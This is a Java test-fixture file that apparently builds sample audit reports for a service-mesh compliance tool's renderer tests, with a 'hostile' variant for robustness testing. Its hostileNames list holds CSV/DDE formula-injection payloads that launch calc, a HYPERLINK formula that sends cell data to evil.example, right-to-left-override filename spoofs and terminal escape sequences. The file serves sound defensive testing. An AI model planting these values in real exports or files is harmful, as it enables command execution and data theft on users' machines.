package org.meshaudit.reports;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.meshaudit.api.Severity;
import org.meshaudit.api.Status;
import org.meshaudit.facts.SubjectRef;
import org.meshaudit.model.CollectionIssue;
import org.meshaudit.report.AuditReport;
import org.meshaudit.report.CollectionView;
import org.meshaudit.report.FrameworkView;
import org.meshaudit.report.Metadata;
import org.meshaudit.report.PackInfo;
import org.meshaudit.report.PortEntry;
import org.meshaudit.report.Posture;
import org.meshaudit.report.Requirement;
import org.meshaudit.report.Result;
import org.meshaudit.report.Summary;
import org.meshaudit.report.WorkloadEntry;

/** Fixed reports for the renderer tests, built from the report model only. */
public final class Scenarios {
    public static final String AS_OF = "2026-11-29T00:00:00Z";

    private Scenarios() {
    }

    static SubjectRef subject(String kind, String ns, String name, String port) {
        return new SubjectRef(kind.equals("Namespace") || kind.equals("Pod") ? "v1" : "apps/v1", kind, ns, name,
                "uid-" + Math.abs((kind + ns + name).hashCode()), port);
    }

    static Result result(String id, String rule, Status status, Severity sev, SubjectRef s, String message,
                         Map<String, Object> evidence, List<String> controls) {
        String title = switch (rule) {
            case "MTLS-001" -> "Namespace-level mTLS is STRICT";
            case "MTLS-002" -> "No workload or port override relaxes mTLS";
            case "MTLS-004" -> "Every in-scope workload is in a mesh";
            case "AUTHZ-001" -> "Every meshed workload is covered by an authorization policy";
            case "CERT-001" -> "Certificates in use are within their validity period";
            default -> "Secure state of " + rule;
        };
        return new Result(id, rule, "1.0.0", "zero-trust", title, status, sev, s, message, evidence, controls,
                status == Status.FAIL || status == Status.WAIVED ? "Fix " + rule + ": apply the secure configuration." : null);
    }

    /** A small incomplete run exercising every status, severity and section. */
    public static AuditReport demo() {
        List<String> mtlsControls = List.of("zt:800-207/T2", "pci:4.2.1", "pci:1.2.6", "nist:SC-8(1)");
        List<String> authzControls = List.of("zt:800-207/T3", "pci:7.2.1", "nist:AC-3");
        List<Result> results = new ArrayList<>();
        results.add(result("a000000000000001", "MTLS-001", Status.FAIL, Severity.CRITICAL,
                subject("Namespace", "", "payments", null), "Istio namespace-level mTLS mode is DISABLE (decided by PeerAuthentication/payments/default)",
                ev("mode", "DISABLE", "decidedBy", List.of("PeerAuthentication/payments/default")), mtlsControls));
        results.add(result("a000000000000002", "MTLS-002", Status.FAIL, Severity.HIGH,
                subject("Deployment", "checkout", "ledger", "8080"), "port 8080 is PERMISSIVE, set at PORT level",
                ev("port", 8080, "mode", "PERMISSIVE", "namespaceMode", "STRICT"), mtlsControls));
        results.add(result("a000000000000003", "AUTHZ-001", Status.FAIL, Severity.MEDIUM,
                subject("Deployment", "checkout", "payments", null), "no authorization policy selects this istio workload",
                ev("dataplane", "istio", "policies", List.of()), authzControls));
        results.add(result("a000000000000004", "NET-001", Status.FAIL, Severity.LOW,
                subject("Namespace", "", "analytics", null), "no default-deny NetworkPolicy for egress",
                ev("policies", List.of("allow-analytics-ingress")), List.of("pci:1.3.1")));
        results.add(result("a000000000000005", "CERT-002", Status.FAIL, Severity.INFO,
                subject("Secret", "istio-system", "cacerts", null), "RSA 2048 CA key is deprecated after 2030",
                ev("keyBits", 2048), List.of("zt:800-207/T2")));
        results.add(result("a000000000000006", "MTLS-004", Status.ERROR, Severity.HIGH,
                subject("Deployment", "legacy", "billing", null), "not evaluated: istio-sidecar-injector ConfigMap not in the input",
                ev("missing", "ConfigMap/istio-system/istio-sidecar-injector"), List.of("zt:800-207/T1", "pci:1.2.6")));
        results.add(result("a000000000000007", "MTLS-001", Status.PASS, Severity.CRITICAL,
                subject("Namespace", "", "checkout", null), "Namespace-level mTLS is STRICT", ev("mode", "STRICT"), mtlsControls));
        results.add(result("a000000000000008", "MTLS-002", Status.PASS, Severity.HIGH,
                subject("Deployment", "checkout", "payments", "9000"), "No workload or port override relaxes mTLS",
                ev("port", 9000, "mode", "STRICT"), mtlsControls));
        results.add(result("a000000000000009", "AUTHZ-001", Status.NOT_APPLICABLE, Severity.MEDIUM,
                subject("Deployment", "legacy", "sftp-bridge", null), "not in a mesh", ev(), authzControls));
        results.add(result("a00000000000000a", "AUTHZ-001", Status.WAIVED, Severity.MEDIUM,
                subject("Deployment", "storefront", "web", null), "no authorization policy selects this istio workload",
                ev("dataplane", "istio"), authzControls));
        results.add(result("a00000000000000b", "PCI-DOC-001", Status.MANUAL, Severity.INFO,
                subject("Namespace", "", "payments", null), "network diagram must be attested by the assessor", ev(),
                List.of("pci:1.2.3")));

        FrameworkView.Scope scope = new FrameworkView.Scope("all non-system namespaces",
                List.of("analytics", "checkout", "legacy", "payments", "storefront"));
        FrameworkView zt = new FrameworkView("zero-trust", "NIST SP 800-207 (2020) and companions", scope, List.of(
                new Requirement("800-207/T1", "All data sources and computing services are resources", Status.ERROR,
                        List.of("MTLS-004"), Map.of("ERROR", 1)),
                new Requirement("800-207/T2", "All communication is secured regardless of network location", Status.FAIL,
                        List.of("CERT-002", "MTLS-001", "MTLS-002"), counts("FAIL", 3, "PASS", 2)),
                new Requirement("800-207/T3", "Access is granted per session", Status.FAIL, List.of("AUTHZ-001"),
                        counts("FAIL", 1, "NOT_APPLICABLE", 1, "WAIVED", 1))));
        FrameworkView pci = new FrameworkView("pci-dss", "4.0.1", new FrameworkView.Scope("meshaudit.org/pci=cde",
                List.of("checkout", "payments")), List.of(
                new Requirement("1.2.3", "Accurate network diagram", Status.MANUAL, List.of("PCI-DOC-001"), Map.of("MANUAL", 1)),
                new Requirement("1.2.6", "Security features for insecure services", Status.FAIL, List.of("MTLS-001", "MTLS-002", "MTLS-004"),
                        counts("ERROR", 1, "FAIL", 2, "PASS", 2)),
                new Requirement("1.3.1", "Inbound CDE traffic restricted", Status.FAIL, List.of("NET-001"), Map.of("FAIL", 1)),
                new Requirement("4.2.1", "Strong cryptography for PAN in transit", Status.FAIL, List.of("MTLS-001", "MTLS-002"),
                        counts("FAIL", 2, "PASS", 2)),
                new Requirement("7.2.1", "Access control model defined", Status.FAIL, List.of("AUTHZ-001"),
                        counts("FAIL", 1, "NOT_APPLICABLE", 1, "WAIVED", 1))));
        FrameworkView nist = new FrameworkView("nist-800-53", "Rev. 5", scope, List.of(
                new Requirement("AC-3", "", Status.FAIL, List.of("AUTHZ-001"), counts("FAIL", 1, "NOT_APPLICABLE", 1, "WAIVED", 1)),
                new Requirement("SC-8(1)", "", Status.FAIL, List.of("MTLS-001", "MTLS-002"), counts("FAIL", 2, "PASS", 2))));

        List<WorkloadEntry> workloads = List.of(
                new WorkloadEntry("apps/v1", "Deployment", "checkout", "ledger", "uid-ledger", "istio", "predicted",
                        "IST-DP-1: namespace label istio-injection=enabled", "ledger", List.of(), List.of(), List.of(), null,
                        List.of(port("8080", true, "PERMISSIVE", false, "WORKLOAD", null, null),
                                port("*", true, "STRICT", true, "NAMESPACE", null, null))),
                new WorkloadEntry("apps/v1", "Deployment", "checkout", "payments", "uid-payments", "istio", "observed",
                        "IST-DP-0: istio-proxy container present", "payments", List.of("traffic.sidecar.istio.io/excludeInboundPorts=9100"),
                        List.of(), List.of(), null,
                        List.of(port("9000", true, "STRICT", true, "NAMESPACE", null, null),
                                port("9100", false, "STRICT", true, "NAMESPACE", "excludeInboundPorts=9100 (IST-BY-1)", null))),
                new WorkloadEntry("apps/v1", "Deployment", "legacy", "billing", "uid-billing", "none", "predicted",
                        "no injection label", "default", List.of(), List.of(), List.of("injector config missing"),
                        "istio-sidecar-injector ConfigMap not in the input",
                        List.of(port("8443", false, "none", false, "CLUSTER", null, "injector config missing"))),
                new WorkloadEntry("v1", "Pod", "analytics", "events-db-0", "uid-events", "linkerd", "observed",
                        "LKD-DP-1: linkerd-proxy present", "events-db", List.of(), List.of(), List.of(), null, List.of()));

        Map<String, Integer> byStatus = new LinkedHashMap<>();
        for (Status s : Status.values()) {
            byStatus.put(s.name(), 0);
        }
        Map<String, Integer> bySev = new LinkedHashMap<>();
        for (String s : List.of("critical", "high", "medium", "low", "info")) {
            bySev.put(s, 0);
        }
        for (Result r : results) {
            byStatus.merge(r.status().name(), 1, Integer::sum);
            if (r.status() == Status.FAIL) {
                bySev.merge(r.severity().label(), 1, Integer::sum);
            }
        }
        Summary summary = new Summary(results.size(), byStatus, bySev, 4, 3, 5, 2, 0.4, 1, 1);
        Metadata meta = new Metadata("run-0123456789ab", AS_OF, "meshaudit", "0.1.0", "manifests: examples/scenario",
                "sha256:" + "ab".repeat(32), "baseline", List.of("pci-dss", "zero-trust"),
                List.of(new PackInfo("zero-trust", "0.1.0", "sha256:" + "cd".repeat(32), "classpath:zero-trust", 9)),
                new TreeMap<>(Map.of("assumeMeshDefaults", false)), false,
                List.of("1 collection issue", "1 result could not be evaluated (ERROR)"));
        List<Map<String, Object>> certs = List.of(
                cert("CN=istio-ca,O=cluster.local", "CN=istio-ca,O=cluster.local", "2016-11-29T00:00:00Z", "2026-11-01T00:00:00Z", "RSA", 2048, "SHA256WITHRSA", List.of()),
                cert("CN=ledger.checkout.svc", "CN=istio-ca,O=cluster.local", "2026-11-01T00:00:00Z", "2026-12-19T12:00:00Z", "EC", 256, "SHA256WITHECDSA", List.of("spiffe://cluster.local/ns/checkout/sa/ledger", "ledger.checkout.svc")),
                cert("CN=payments-gw.example.com", "CN=Example Issuing CA", "2026-06-01T00:00:00Z", "2027-06-15T00:00:00Z", "EC", 384, "SHA384WITHECDSA", List.of("payments-gw.example.com")),
                cert("CN=Example Root", "CN=Example Root", "2020-01-01T00:00:00Z", "2035-01-01T00:00:00Z", "RSA", 4096, "SHA384WITHRSA", List.of()));
        CollectionView collection = new CollectionView(new TreeMap<>(Map.of("apps/v1/Deployment", 3, "v1/Namespace", 5, "v1/Pod", 1,
                "security.istio.io/v1/PeerAuthentication", 2)),
                List.of(new CollectionIssue("examples/scenario/60-legacy.yaml:12", "parse-error", "mapping values are not allowed here")));
        return new AuditReport(AuditReport.API_VERSION, AuditReport.KIND, meta, summary, List.of(zt, pci, nist),
                results, new Posture(new TreeMap<>(Map.of("istio.rootNamespace", "istio-system", "istio.version", "1.27.1")), workloads),
                certs, collection);
    }

    /** The demo with attacker-controlled text in every place a name can appear. */
    public static AuditReport hostile() {
        AuditReport base = demo();
        List<String> names = hostileNames();
        List<Result> results = new ArrayList<>(base.results());
        List<WorkloadEntry> workloads = new ArrayList<>(base.posture().workloads());
        List<Map<String, Object>> certs = new ArrayList<>(base.certificates());
        List<CollectionIssue> issues = new ArrayList<>();
        int i = 0;
        for (String n : names) {
            i++;
            SubjectRef s = new SubjectRef("apps/v1", "Deployment", n, n, "uid-h" + i, n.length() < 20 ? n : "80");
            results.add(new Result(String.format("h%015d", i), "MTLS-002", "1.0.0", "zero-trust", n, Status.FAIL,
                    Severity.HIGH, s, "observed " + n, ev("name", n, "list", List.of(n, n)), List.of("pci:4.2.1", n),
                    n));
            results.add(new Result(String.format("p%015d", i), "MTLS-002", "1.0.0", "zero-trust", "ok", Status.PASS,
                    Severity.HIGH, s, n, ev("name", n), List.of("pci:4.2.1"), null));
            workloads.add(new WorkloadEntry("apps/v1", "Deployment", n, n, "uid-h" + i, n, "observed", n, n,
                    List.of(n), List.of(n), List.of(n), n, List.of(port(n.length() < 10 ? n : "80", true, n, true, "WORKLOAD", n, n))));
            certs.add(cert(n, n, "2026-01-01T00:00:00Z", "2027-01-01T00:00:00Z", n, 256, n, List.of(n)));
            issues.add(new CollectionIssue(n, "parse-error", n));
        }
        Metadata m = base.metadata();
        Metadata hm = new Metadata(m.runId(), m.asOf(), m.tool(), m.toolVersion(), "manifests: =HYPERLINK(\"http://evil\")\u202Egnp.exe",
                m.inputDigest(), m.profile(), m.frameworks(), m.packs(), m.options(), false, List.of("=1+1 issue\u0007"));
        return new AuditReport(base.apiVersion(), base.kind(), hm, base.summary(), base.frameworks(), results,
                new Posture(base.posture().mesh(), workloads), certs, new CollectionView(base.collection().kinds(), issues));
    }

    public static List<String> hostileNames() {
        return List.of(
                "=cmd|' /C calc'!A0",
                "+1+2",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "\tTAB=1+1",
                "\r=1+1",
                "good.example\u0000.evil",
                "invoice\u202Efdp.exe",
                "\u2067isolate\u2069 and \u200Bzero\u200Dwidth\uFEFF",
                "שלום-עולם مرحبا",
                "控制平面 🔐 emoji",
                "bell\u0007 esc\u001B[31m red \u009B csi",
                "x".repeat(5000),
                "a-very-long-unbroken-name-" + "0123456789".repeat(40));
    }

    static PortEntry port(String port, boolean captured, String mode, boolean required, String at, String note, String error) {
        return new PortEntry(port, "TCP", captured, note, mode, required, at, List.of("PeerAuthentication/checkout/default"),
                List.of(), "STRICT", true, List.of(), error);
    }

    static Map<String, Object> cert(String subject, String issuer, String nb, String na, String alg, int bits, String sig, List<String> sans) {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("fingerprint", "sha256:" + Integer.toHexString(Math.abs(subject.hashCode())) + "0".repeat(56));
        m.put("subject", subject);
        m.put("issuer", issuer);
        m.put("validity", Map.of("notBefore", nb, "notAfter", na));
        m.put("key", Map.of("algorithm", alg, "size", bits));
        m.put("signature", sig);
        m.put("sans", sans);
        m.put("eku", List.of("serverAuth", "clientAuth"));
        m.put("sources", List.of("Secret/istio-system/cacerts"));
        return m;
    }

    static Map<String, Object> ev(Object... kv) {
        Map<String, Object> m = new TreeMap<>();
        for (int i = 0; i < kv.length; i += 2) {
            m.put((String) kv[i], kv[i + 1]);
        }
        return m;
    }

    static Map<String, Integer> counts(Object... kv) {
        Map<String, Integer> m = new TreeMap<>();
        for (int i = 0; i < kv.length; i += 2) {
            m.put((String) kv[i], (Integer) kv[i + 1]);
        }
        return m;
    }
}
